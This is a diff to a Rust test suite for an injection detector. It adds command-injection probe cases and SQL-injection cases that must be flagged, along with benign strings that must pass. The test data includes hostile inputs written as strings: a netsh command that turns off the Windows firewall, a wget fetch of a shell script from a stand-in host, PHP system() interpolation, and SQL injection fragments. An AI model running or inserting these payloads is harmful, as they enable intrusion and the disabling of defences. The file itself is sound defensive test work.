@@ -312,8 +312,43 @@ fn encodings_and_forms_added_for_recall() {
 }
 
 #[test]
+fn cmdi_probes_without_a_separator() {
+    // Classes the payload lists use without `;`/`|`: a bare recon command as the whole value
+    // (alert), a command after a caret or inside the quotes it opened, a Windows tool with its
+    // real subcommand, a pasted shell prompt, PHP's `${…}` interpolation calling sleep/system.
+    assert_hits(
+        "cmdi",
+        &[
+            "ls",
+            " pwd ",
+            "^id",
+            "'id'",
+            "netsh advfirewall set allprofiles state off",
+            "root@box:~# git clone https://x.example/r.git",
+            "deploy@web-1:/tmp$ wget http://x.example/a.sh",
+            "{${sleep(5)}}",
+            "${@system('id')}",
+        ],
+    );
+    assert_clean(&[
+        "pwd reset",
+        "directory",
+        "'ident'",
+        "'id' or 'name'",
+        "mail bob@example.com: see # 4 below",
+        "netsh is a tool",
+    ]);
+    // A template placeholder is the code detector's business (weak), not a command.
+    assert!(!flags("${price} each", "cmdi"));
+}
+
+#[test]
 fn sql_gate_skips_prose_but_not_injections() {
     assert_clean(&[
+        // Browser User-Agents say `like`; API Gateway hosts say `execute`.
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15",
+        "abc123.execute-api.us-east-1.amazonaws.com",
         "Customer 12 O'Neil",
         "Prefers morning delivery; call ahead (front desk) - thanks",
         "Thanks! Delivery before 5pm if possible.",
@@ -326,6 +361,8 @@ fn sql_gate_skips_prose_but_not_injections() {
             "x' || 'y",
             "admin'--",
             "1 union select 1",
+            "A' LIKE 'B",
+            "1;execute('x')",
         ],
     );
 }
